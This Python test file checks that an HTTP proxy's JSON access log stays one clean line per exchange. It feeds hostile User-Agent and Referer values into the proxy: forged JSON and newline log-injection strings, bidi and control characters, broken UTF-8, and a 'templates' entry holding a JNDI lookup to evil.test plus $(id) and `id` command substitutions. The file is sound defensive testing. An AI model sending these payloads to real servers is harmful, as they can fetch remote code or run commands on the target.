"""The access log: one line of JSON for each exchange, whatever a client writes into its request."""

import json
import signal
from datetime import datetime, timezone

import pytest

from support.http1 import Wire, chunked, response
from support.origin import Origin
from support.process import eventually


def exchange(proxy, text):
    with Wire.connect(proxy.http) as wire:
        wire.send(text)
        return wire.read_response()


def test_an_exchange_is_one_line_with_what_happened(start):
    with Origin(lambda request, wire: response(b"12345", "201 Created")) as origin:
        proxy = start(origin)
        with Wire.connect(proxy.http) as wire:
            wire.send(b"POST /a/b?c=d HTTP/1.1\r\nHost: a.test:8080\r\nUser-Agent: agent/1\r\nReferer: http://b.test/\r\n"
                      b"Transfer-Encoding: chunked\r\n\r\n" + chunked(b"abc", b"d"))
            assert wire.read_response().status == 201
        line, = proxy.log_lines(1)
    expected = {"event": "exchange", "listener": "http", "route": "*", "method": "POST", "scheme": "http", "authority": "a.test:8080",
                "target": "/a/b?c=d", "user_agent": "agent/1", "referer": "http://b.test/", "status": 201,
                "request_body_bytes": 4, "response_body_bytes": 5, "attempts": 1}
    assert {key: line.get(key) for key in expected} == expected
    assert line["version"].endswith("1.1")
    assert line["upstream"]["name"] == "app" and line["upstream"]["endpoint"] == f"127.0.0.1:{origin.port}"
    assert line["client"]["peer"].startswith("127.0.0.1:") and line["client"]["reused"] is False
    age = datetime.now(timezone.utc) - datetime.fromisoformat(line["time"])
    assert abs(age.total_seconds()) < 60
    assert "error" not in line and "local_reply" not in line


def test_a_local_reply_is_logged_as_one(start, origin):
    proxy = start(origin, route={"match": {"host": "a.test"}})
    exchange(proxy, "GET / HTTP/1.1\r\nHost: z.test\r\n\r\n")
    exchange(proxy, "nonsense\r\n\r\n")
    no_route, bad = proxy.log_lines(2)
    assert (no_route["status"], no_route["error"], no_route["local_reply"], no_route["authority"]) == (404, "no_route", True, "z.test")
    assert (bad["status"], bad["error"], bad["local_reply"]) == (400, "bad_request", True)
    assert "upstream" not in no_route


def test_a_client_that_left_is_logged_without_a_status(start, scripted_origin):
    proxy = start(scripted_origin)
    with Wire.connect(proxy.http) as wire:
        wire.get()
        with scripted_origin.accept() as server:
            server.read_request()
            wire.reset()
            server.is_at_end()
    line, = proxy.log_lines(1)
    assert line["error"] in ("client_reset", "client_closed") and "status" not in line


def test_as_many_lines_as_exchanges_from_all_workers(start, origin):
    proxy = start(origin, server={"workers": 2})
    for n in range(20):
        with Wire.connect(proxy.http) as wire:
            for m in range(5):
                wire.get(f"/{n}/{m}")
                wire.read_response()
    lines = proxy.log_lines(100)
    assert sorted(line["target"] for line in lines) == sorted(f"/{n}/{m}" for n in range(20) for m in range(5))
    proxy.stop()
    assert len(proxy.log_lines()) == 100, "nothing is written twice, or late"


HOSTILE = {
    "quotes and backslashes": '"}\\", "status": 200, "x": "\\u0000\\',
    "a line of its own": '\\n{"event":"exchange","status":200}',
    "an ending object": '"}}}{"event":"exchange"',
    "a separator of lines": "a\xe2\x80\xa8b\xe2\x80\xa9c",     # U+2028 and U+2029 in UTF-8
    "a text that runs backwards": "a\xe2\x80\xaeb",            # U+202E
    "control characters of latin-1": "a\x85b\x9bc",
    "broken utf-8": "\xff\xfe\xc0\x80\xed\xa0\x80\xf8\x88\x80\x80\x80",
    "cut utf-8": "caf\xc3",
    "a tab": "a\tb",
    "thirty kilobytes": "\\" * 30_000,
    "thirty kilobytes to be escaped by number": "\xff" * 30_000,
    "templates": "${jndi:ldap://evil.test/} %n %s {{7*7}} $(id) `id`",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_user_agent_cannot_break_a_line(start, origin, name):
    proxy = start(origin)
    text = HOSTILE[name]
    assert exchange(proxy, f"GET /1 HTTP/1.1\r\nHost: a.test\r\nUser-Agent: {text}\r\n\r\n").status == 200
    assert exchange(proxy, f"GET /2 HTTP/1.1\r\nHost: a.test\r\nReferer: {text}\r\n\r\n").status == 200
    first, second = proxy.log_lines(2)
    assert (first["target"], second["target"]) == ("/1", "/2")
    raw = (proxy.directory / "stdout").read_bytes()
    assert raw.count(b"\n") == 2 and max(map(len, raw.splitlines())) < 64 * 1024
    logged = raw.decode("utf-8")  # raises where it is not
    assert not [c for c in logged if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) < 0xa0 or c in "\u2028\u2029\u202e"]
    if name == "quotes and backslashes":
        assert first["user_agent"] == text


def test_a_refused_request_cannot_break_a_line_either(start, origin):
    proxy = start(origin)
    for text in ("GET /\x1b[31m\"\n HTTP/1.1\r\n\r\n", '"}{\r\n\r\n', "\xff\0\"\\\r\n\r\n"):
        exchange(proxy, text)
    assert [line["status"] for line in proxy.log_lines(3)] == [400] * 3


def test_the_log_may_be_a_file_and_is_opened_again_after_it_was_moved(start, origin, tmp_path):
    path, moved = tmp_path / "access.log", tmp_path / "access.log.1"
    proxy = start(origin, log={"access": {"file": str(path)}})
    exchange(proxy, "GET /1 HTTP/1.1\r\nHost: a.test\r\n\r\n")
    eventually(lambda: path.read_text().count("\n") == 1)
    path.rename(moved)
    proxy.signal(signal.SIGUSR1)
    eventually(path.exists, "a new file")
    exchange(proxy, "GET /2 HTTP/1.1\r\nHost: a.test\r\n\r\n")
    eventually(lambda: path.read_text().count("\n") == 1)
    assert [json.loads(file.read_text())["target"] for file in (moved, path)] == ["/1", "/2"]
    assert proxy.output == ""


def test_the_log_may_be_off(start, origin):
    proxy = start(origin, log={"access": {"format": "off"}})
    exchange(proxy, "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
    proxy.stop()
    assert proxy.output == ""
